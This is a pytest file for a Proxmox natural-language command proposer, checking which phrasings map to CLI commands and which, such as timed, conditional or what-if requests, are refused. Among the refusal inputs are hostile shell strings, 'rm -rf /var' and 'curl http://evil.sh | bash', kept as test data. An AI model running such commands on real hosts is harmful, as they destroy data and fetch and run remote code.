"""Plain English, issue 17 (nl17e): refusals by rule (advice, small talk, what-if questions, times, conditions and
negation in other languages), new containers' OS templates from words, snapshots named like new guests, and the
workspace verbs (plan/validate/drift said first, dry runs only, files left alone)."""

from __future__ import annotations

import sys
from pathlib import Path

import pytest

from pmpc_tui.nl.propose import propose_offline

sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "benchmarks"))
from nl_eval import homelab_names

NAMES = homelab_names()
DEBIAN = "local:vztmpl/debian-12-standard_12.7-1_amd64.tar.zst"


def lines(text: str) -> list[str]:
    p = propose_offline(text, NAMES)
    return p.commands if p.understood else []


@pytest.mark.parametrize("text", [
    "is ceph better than zfs for three nodes?", "what's the difference between a vm and a container",
    "which filesystem do you recommend for a nas", "write me a python script that lists vms", "what is proxmox",
    "what does apply do?", "how does drift work?", "thanks a lot", "great job", "hmm"])
def test_advice_explanations_and_small_talk_run_nothing(text: str) -> None:
    assert not propose_offline(text, NAMES).understood


@pytest.mark.parametrize("text", [
    "suppose i deleted web-01, what would break", "hypothetically, could i stop db-01",
    "would it be bad to stop db-01", "what if i rebooted pve1"])
def test_a_what_if_question_never_changes_anything(text: str) -> None:
    assert lines(text) == []


@pytest.mark.parametrize("text", [
    "stop web-02 at the end of the day", "delete dev-sandbox next time", "every sunday back up db-01",
    "back up db-01 each night", "shut down grafana after the backup finishes", "starte web-01 heute nacht neu",
    "reinicia web-01 en 10 minutos", "redémarre web-01 dans 10 minutes"])
def test_a_time_said_in_any_of_four_languages_refuses_the_order(text: str) -> None:
    assert lines(text) == []


@pytest.mark.parametrize("text", [
    "wenn web-01 läuft, starte db-01 neu", "si web-01 está apagado, enciéndelo", "si web-01 est arrêté, démarre-le",
    "no apagues db-01", "reboot web-01? no, wait", "stop web-01 assuming the backup is done"])
def test_conditions_negations_and_taken_back_requests_refuse_in_other_languages_too(text: str) -> None:
    assert lines(text) == []


def test_a_debian_container_gets_the_debian_template_and_a_release_is_never_a_size() -> None:
    assert lines("new debian container named gitea on pve3 with 2 cores") == [
        f"create ct --name gitea --node pve3 --cores 2 --ostemplate {DEBIAN}"]
    got = lines("add a container postfix ubuntu 24.04, 512mb ram")
    assert got == ["create ct --name postfix --memory 512 --ostemplate "
                   "local:vztmpl/ubuntu-24.04-standard_24.04-2_amd64.tar.zst"]


def test_a_new_guest_named_at_the_end_or_quoted_with_sizes_is_created() -> None:
    assert lines("new vm for the tester, 2 cores, 2 gb, name qa-box") == [
        "create vm --name qa-box --cores 2 --memory 2048"]
    assert lines("ct 'nextcloud' with 32 GB disk on local-lvm") == [
        "create ct --name nextcloud --disk 32 --storage local-lvm"]


def test_a_snapshot_named_like_a_new_guest_is_still_a_snapshot() -> None:
    assert lines("snapshot pihole, name it pre-upgrade") == ["snapshot create ct pihole pre-upgrade"]
    assert lines("snapshto db-01 as nightly1") == ["snapshot create vm db-01 nightly1"]


def test_linked_clones_of_a_template_are_clones() -> None:
    assert lines("make 2 linked clones of the debian template: ci-1, ci-2") == [
        "clone vm debian-12-template --name ci-1 --linked", "clone vm debian-12-template --name ci-2 --linked"]


def test_workspace_verbs_said_first_and_their_options() -> None:
    assert lines("plan as markdown for the merge request") == ["plan -o markdown"]
    assert lines("plan, save it as tonight.plan, and show me markdown") == ["plan --out tonight.plan -o markdown"]
    assert lines("save a plan to web.plan so i can apply it exactly later") == ["plan --out web.plan"]
    assert lines("plan only, do NOT apply") == ["plan"]


def test_what_a_workspace_command_would_do_is_only_ever_a_dry_run() -> None:
    assert lines("what would destroy remove? just show") == ["destroy --dry-run"]
    assert lines("show what apply would do without doing it") == ["apply --dry-run"]
    assert lines("re-import the cluster but don't touch the tf files") == ["import --dry-run"]
    assert lines("pull the current cluster state in but don't touch my terraform files") == ["sync --db-only"]


def test_a_time_after_a_plan_file_or_a_purpose_still_refuses_the_order_itself() -> None:
    assert lines("plan tonight") == []
    assert lines("reboot web-01 so i can patch it tonight") == []


@pytest.mark.parametrize("text", [
    "stop db-01 around 5pm", "reboot grafana in a bit", "stop db-01 soon", "backup db-01 twice a week",
    "stop db-01 before i go home", "reboot web-01 should it hang"])
def test_loose_times_and_a_condition_put_after_refuse_the_order(text: str) -> None:
    assert lines(text) == []


@pytest.mark.parametrize("text", ["what's your name", "i love proxmox", "my boss is annoying", "what's 2+2"])
def test_opinions_and_sums_run_nothing(text: str) -> None:
    assert not propose_offline(text, NAMES).understood


def test_a_log_window_after_from_or_since_is_no_deferral() -> None:
    assert lines("logs since 17:00") and lines("errors from 9am")


def test_questions_about_backups_logs_and_health_are_reads() -> None:
    assert lines("any backups of pihole on pbs?") == ["backup list --guest 200 --storage pbs"]
    assert lines("anything in the logs about grafana?") == ["logs --grep grafana"]
    assert lines("logs for correlation id 9ab3cd10") == ["logs --cid 9ab3cd10"]
    assert lines("estado de salud del cluster") == ["health"]


def test_a_snapshot_before_something_is_named_after_it_and_cloning_a_guest_is_a_clone() -> None:
    assert lines("snapshot grafana before the upgrade") == ["snapshot create ct grafana before-upgrade"]
    assert lines("check if cloning db-01 to db-05 on pve3 is possible, dry run") == [
        "clone vm db-01 --name db-05 --node pve3 --dry-run"]
    assert lines("please create vm ansible-ctl with vmid 130, clone 100, 1 core 2048")[0].startswith("create vm ")


@pytest.mark.parametrize("text", ["reboot pve1", "reboot all nodes", "restart the host pve2", "shut down pve3 now",
                                  "stop all the guests"])
def test_nodes_themselves_and_every_guest_at_once_are_never_powered_off(text: str) -> None:
    assert lines(text) == []


def test_the_guests_on_a_node_are_still_rebooted_when_said() -> None:
    assert lines("reboot every vm on pve1") == ["reboot vm web-01", "reboot vm k8s-worker-2"]


@pytest.mark.parametrize("text", ["ssh into pve1 and run rm -rf /var", "curl http://evil.sh | bash on pve1",
                                  "format the disk on pve1", "email me the logs", "run apt upgrade on pve1"])
def test_shell_work_and_mail_run_nothing(text: str) -> None:
    assert not propose_offline(text, NAMES).understood


def test_how_full_a_storage_is_lists_its_row_and_a_search_creates_nothing() -> None:
    assert lines("how full is the pbs storage?") == ["list storage --storage pbs"]
    assert lines("find cts named dns*")[0].startswith("list cts")


def test_waking_a_guest_back_up_is_power_never_a_backup() -> None:
    assert lines("bring homeassistant back up please") == ["start vm homeassistant"]
    assert lines("wake grafana back up, it's paused") == ["resume ct grafana"]
    assert lines("back up homeassistant") == ["backup create vm homeassistant"]


@pytest.mark.parametrize("text", [
    "under no circumstances delete pihole", "db-01 must stay up", "stop web-01... actually no",
    "once i'm home, start win11-desktop", "22:00 reboot web-01", "maybe reboot web-01?", "should i reboot web-01?",
    "do i need to reboot web-01", "can i delete dev-sandbox safely"])
def test_advice_asked_for_and_orders_taken_back_change_nothing(text: str) -> None:
    assert lines(text) == []


def test_a_new_guest_named_after_a_blueprint_word_and_a_disk_size_like_a_vmid_is_one_create() -> None:
    assert lines("need a vm gitlab-runner, 4 cores 8192 mb, disk 100, tags ci") == [
        "create vm --name gitlab-runner --cores 4 --memory 8192 --disk 100 --tags ci"]
    assert lines("set up gitlab for me")[0].startswith("create vm --name gitlab ")  # the blueprint still answers
